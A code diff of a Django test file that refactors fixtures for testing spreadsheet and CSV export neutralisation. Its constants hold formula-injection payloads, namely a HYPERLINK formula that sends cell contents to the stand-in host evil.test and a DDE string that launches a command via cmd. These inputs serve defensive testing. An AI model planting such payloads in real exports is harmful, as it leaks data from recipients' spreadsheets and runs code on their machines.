@@ -15,16 +15,14 @@ from decimal import Decimal
 
 import pytest
 from django.urls import reverse
-from django.utils import timezone
 from openpyxl import load_workbook
 
 from klynge.core.downloads import csv_cell, neutralise, table_csv, table_xlsx
-from klynge.finance import accounts as fin_accounts
 from klynge.meetings import services as meeting_services
 from klynge.meetings.models import Attendance
 from klynge.registry.models import Cluster
 from tests.test_permissions_matrix import MATRIX
-from tests.world import PASSWORD, build_world
+from tests.world import PASSWORD, build_world, meeting_2024, quarterly_fee_2024
 
 HOSTILE_CLUSTER = '=HYPERLINK("http://evil.test/?x="&A1,"Klik")'
 HOSTILE = ["@SUM(1+1)*cmd|' /C calc'!A0", "+4512345678", "-2+3", "=1+1", "\t=2"]
@@ -117,24 +115,9 @@ def hostile_world(db):
     Cluster.objects.filter(pk=w.cluster_a.pk).update(name=HOSTILE_CLUSTER)
     w.cluster_a.refresh_from_db()
     coordinator = w.users["coordinator_a"]
-    # A fee with øre: 75 hours × 950 kr. a year, paid quarterly = 17.812,50 kr.
-    contract = fin_accounts.contract_create(
-        actor=coordinator,
-        cluster=w.cluster_a,
-        recipient=HOSTILE[0],
-        role="Koordinator",
-        hourly_basis=Decimal("950"),
-        start=dt.date(2024, 1, 1),
-    )
-    fin_accounts.fee_pay(actor=coordinator, contract=contract, paid_on=dt.date(2024, 3, 31))
+    quarterly_fee_2024(w, HOSTILE[0])
     # A meeting held in 2024 (activity report) and the upcoming one (attendance list).
-    held = meeting_services.meeting_create(
-        actor=coordinator,
-        cluster=w.cluster_a,
-        title=HOSTILE[3],
-        starts=timezone.make_aware(dt.datetime(2024, 4, 10, 16)),
-        ends=timezone.make_aware(dt.datetime(2024, 4, 10, 18)),
-    )
+    held = meeting_2024(w, HOSTILE[3])
     doctors = list(meeting_services.selectors.invited_doctors(held))
     meeting_services.attendance_record(
         actor=coordinator,
